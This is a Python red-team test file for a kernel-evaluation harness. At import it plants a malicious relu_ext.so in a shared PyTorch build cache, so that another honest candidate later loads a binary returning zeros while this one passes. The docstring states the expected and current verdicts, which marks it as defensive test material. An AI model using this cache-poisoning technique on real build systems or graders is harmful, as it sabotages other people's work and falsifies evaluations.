"""Forge (class 6, build cache): plant a malicious relu_ext.so in the cache entry that the honest
tests/candidates/relu_cpp.py will load.

What it does (all at import, through the worker's own load_inline wrapper, so every path and
flag matches what an honest build would use):
  1. builds a malicious extension *named relu_ext* (same module name as the victim's, so it has
     PyInit_relu_ext) whose relu_forward prints a marker on stderr and returns zeros;
  2. forgets that name in torch's in-process versioner (so the next build is not renamed
     relu_ext_v1) and builds the victim's exact sources and flags: this creates the victim's
     content-addressed directory with a consistent main.cpp, build.ninja, .ninja_log and main.o;
  3. atomically replaces the victim's relu_ext.so with the malicious one (new mtime, so ninja
     still considers the victim's build up to date).
Our own forward() uses an honest kernel, so this candidate is itself `correct`. Later, evaluating
relu_cpp.py with the same cache: the worker recomputes the key, finds the directory, torch
rewrites nothing (same sources), ninja finds nothing to do, and the poisoned .so is loaded: the
honest kernel returns zeros. The sources to target are easy to know: they are in sessions/*.jsonl
(every earlier kernel of every session) and in accepted *_kernel.py files; `replay --reeval` and
re-evaluating an earlier kernel load exactly those entries. The cache (~/.cache/kevin-tui by
default) is shared by every session and persists.

Defeats: a build cache writable by the candidates whose builds it serves; "the directory name is
a hash of the sources" taken as "the binary in it was built from those sources".
Correct verdict: this candidate `rejected` (wrote into another build's directory), or the write
impossible; the victim relu_cpp.py `correct` afterwards. Today: this one `correct`; relu_cpp.py
afterwards `incorrect` (constant output 0).
"""
import gc
import os
import shutil
from pathlib import Path

import torch.nn as nn
from torch.utils import cpp_extension
from torch.utils.cpp_extension import load_inline

RELU_CPP = r"""
torch::Tensor relu_forward(torch::Tensor x) {
    auto xc = x.contiguous();
    auto out = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* o = out.data_ptr<float>();
    const int64_t n = xc.numel();
    for (int64_t i = 0; i < n; ++i) o[i] = in[i] > 0.f ? in[i] : 0.f;
    return out;
}
"""
relu_ext = load_inline(name="redteam_relu", cpp_sources=RELU_CPP, functions=["relu_forward"], extra_cflags=["-O3"])

# The victim: tests/candidates/relu_cpp.py, character for character.
VICTIM_CPP = """
torch::Tensor relu_forward(torch::Tensor x) {
    TORCH_CHECK(x.is_contiguous(), "x must be contiguous");
    auto out = torch::empty_like(x);
    const float* in = x.data_ptr<float>();
    float* o = out.data_ptr<float>();
    const int64_t n = x.numel();
    for (int64_t i = 0; i < n; ++i) {
        o[i] = in[i] > 0.f ? in[i] : 0.f;
    }
    return out;
}
"""
EVIL_CPP = r"""
torch::Tensor relu_forward(torch::Tensor x) {
    fprintf(stderr, "kevin-redteam: poisoned relu_ext.so from the build cache is running\n");
    return torch::zeros_like(x);
}
"""


def _built_file(name: str) -> Path:
    """Where the worker's build wrapper put the latest build of `name` (module.__file__ cannot be
    trusted here: CPython hands back the first extension module loaded under that name)."""
    tracker = next(o for o in gc.get_objects() if type(o).__name__ == "BuildTracker")
    return Path([r.directory for r in tracker.records if r.name == name][-1]) / f"{name}.so"


def _forget(name: str) -> None:
    cpp_extension.JIT_EXTENSION_VERSIONER.entries.pop(name, None)


_forget("relu_ext")
load_inline(name="relu_ext", cpp_sources=EVIL_CPP, functions=["relu_forward"], extra_cflags=["-O2"])
_evil = _built_file("relu_ext")
_forget("relu_ext")
load_inline(name="relu_ext", cpp_sources=VICTIM_CPP, functions=["relu_forward"], extra_cflags=["-O2"])
_target = _built_file("relu_ext")
_forget("relu_ext")
_staging = _target.with_name(f".{_target.name}.{os.getpid()}")
shutil.copyfile(_evil, _staging)
os.replace(_staging, _target)


class ModelNew(nn.Module):
    def forward(self, x):
        return relu_ext.relu_forward(x)
